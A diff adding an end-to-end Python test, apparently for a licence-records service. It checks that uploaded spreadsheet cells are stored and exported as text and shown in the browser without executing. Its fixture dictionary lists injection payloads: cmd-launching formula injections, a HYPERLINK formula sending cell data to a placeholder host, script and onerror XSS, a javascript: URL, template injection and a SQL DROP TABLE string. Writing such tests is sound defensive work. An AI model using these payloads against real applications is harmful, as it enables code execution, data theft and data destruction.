@@ -1,0 +1,93 @@
+"""Cells that would run somewhere: kept as text, shown as text, given back so that Excel does not run them."""
+
+from typing import Any
+
+import xlrd
+from playwright.async_api import Dialog, expect
+
+from tests.e2e.api import licence, workbook
+from tests.e2e.browser import Screen
+
+LONG = "文" * 32_767  # what a cell can hold
+KEPT = {
+    "formula": "=cmd|' /C calc'!A0",
+    "function": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "link": '=HYPERLINK("http://example.invalid/?"&A1,"点这里")',
+    "script": "<script>window.ran=1</script><img src=x onerror=window.ran=1>",
+    "address": "javascript:window.ran=1",
+    "template": "{{constructor.constructor('window.ran=1')()}}${window.ran=1}",
+    "sql": "x'); DROP TABLE record; --",
+}
+# Signs nobody sees, or that turn the text around: dropped or kept, the words around them stay in their order.
+ODD = {
+    "emoji": "营业执照📄👨‍👩‍👧",
+    "turned around": "准予\u202e经营\u202c食品",
+    "invisible": "准\u200b予\u2060经\ufeff营",
+    "control": "准予\x00\x01\x07\x1b经营",
+}
+
+
+def words(text: str) -> str:
+    return "".join(character for character in text if character.isprintable() or character == "\n")
+
+
+async def test_hostile_cells_stay_text(screen: Screen) -> None:
+    api = await screen.api()
+    definition = await screen.definition("xzxk_fr")
+    texts = {**KEPT, **ODD}
+    rows = [licence(number, XK_NR=text, XK_XMMC=text[:60]) for number, text in enumerate(texts.values(), 1)]
+    rows += [licence(80, XK_NR=KEPT["formula"], XK_XDR=KEPT["script"], XK_JDRQ="2018-02-30"), licence(81, XK_NR=LONG)]
+    upload = await api.upload("xzxk_fr", workbook(definition, rows))
+    refused = (await api.get(f"/uploads/{upload['id']}/rows?outcome=rejected"))["items"]
+    bad_date, too_long = refused
+    assert [row["row"] for row in refused] == [3 + len(texts), 4 + len(texts)]
+    assert [problem["code"] for problem in too_long["problems"]] == ["too_long"]
+    assert len(too_long["problems"][0]["message"]) < 200, "it is told, not repeated"
+    assert bad_date["values"]["XK_NR"] == KEPT["formula"]
+    listed = await api.get("/records?dataset=xzxk_fr&size=100")
+    stored = {record["values"]["XK_WSH"]: record["values"]["XK_NR"] for record in listed["items"]}
+    for number, (what, text) in enumerate(texts.items(), 1):
+        kept = stored[licence(number)["XK_WSH"]]
+        assert words(kept) == words(text) if what in ODD else kept == text, what
+        assert "\x00" not in kept
+
+    for path, expected in (
+        ("/records/export.xls?dataset=xzxk_fr", set(KEPT.values())),
+        (f"/uploads/{upload['id']}/rejected.xls", {KEPT["formula"], KEPT["script"]}),
+    ):
+        cells = cells_of((await api.call("GET", path)).body)
+        held = {str(cell.value) for cell in cells if cell.ctype == xlrd.XL_CELL_TEXT}
+        assert expected <= held, path
+        # A label record is never calculated; a formula would come back as its result.
+        assert not [
+            cell for cell in cells if cell.ctype in {xlrd.XL_CELL_NUMBER, xlrd.XL_CELL_ERROR} and cell.value != ""
+        ]
+
+    # Half a character, which no file of xlwt's can hold.
+    half = b'{"dataset": "xzxk_fr", "values": {"XK_NR": "\\ud83d"}}'
+    answer = await api.call("POST", "/records/check", data=half, **{"Content-Type": "application/json"})
+    assert answer.status in {200, 422}, answer
+
+    page = await screen.page("reporter", "/licences?size=50")
+    asked: list[str] = []
+
+    async def dismiss(dialog: Dialog) -> None:
+        asked.append(dialog.message)
+        await dialog.dismiss()
+
+    page.on("dialog", dismiss)
+    await expect(page.get_by_text(KEPT["script"][:60]).first).to_be_visible()
+    script = next(one for one in listed["items"] if one["values"]["XK_NR"] == KEPT["script"])
+    for path in (f"/records/{script['id']}", f"/uploads/{upload['id']}/failures", f"/public/records/{script['id']}"):
+        await page.goto(path)
+        await expect(page.get_by_text("<script>").first).to_be_visible()
+        assert await page.evaluate("typeof window.ran") == "undefined", path
+        assert await page.locator("img[src='x']").count() == 0
+    assert asked == []
+
+
+def cells_of(content: bytes) -> list[Any]:
+    book = xlrd.open_workbook(file_contents=content)
+    return [cell for sheet in book.sheets()[:1] for row in sheet.get_rows() for cell in row]
